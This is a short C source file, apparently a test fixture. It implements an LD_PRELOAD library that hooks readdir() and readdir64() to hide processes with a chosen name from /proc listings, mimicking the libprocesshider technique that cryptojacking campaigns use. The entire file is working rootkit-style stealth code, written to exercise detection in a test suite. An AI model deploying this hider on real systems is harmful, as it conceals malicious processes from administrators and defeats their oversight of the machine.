/* A minimal LD_PRELOAD process hider in the style of libprocesshider, which cryptojacking
 * campaigns install through /etc/ld.so.preload: readdir() on /proc skips every process whose
 * comm equals $MH_HIDE_COMM. Built and preloaded only by the test suite. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int hidden(DIR *dirp, const char *name) {
    const char *want = getenv("MH_HIDE_COMM");
    char dir[256], path[512], comm[64];
    if (!want || name[0] < '0' || name[0] > '9') return 0;
    snprintf(path, sizeof path, "/proc/self/fd/%d", dirfd(dirp));
    ssize_t n = readlink(path, dir, sizeof dir - 1);
    if (n <= 0) return 0;
    dir[n] = 0;
    if (strcmp(dir, "/proc") != 0) return 0;
    snprintf(path, sizeof path, "/proc/%s/comm", name);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    if (!fgets(comm, sizeof comm, f)) { fclose(f); return 0; }
    fclose(f);
    comm[strcspn(comm, "\n")] = 0;
    return strcmp(comm, want) == 0;
}

#define HOOK(fn, type)                                                \
    type *fn(DIR *dirp) {                                             \
        static type *(*orig)(DIR *) = NULL;                           \
        if (!orig) orig = (type * (*)(DIR *)) dlsym(RTLD_NEXT, #fn);  \
        type *e;                                                      \
        while ((e = orig(dirp)) && hidden(dirp, e->d_name)) {}        \
        return e;                                                     \
    }

HOOK(readdir, struct dirent)
HOOK(readdir64, struct dirent64)
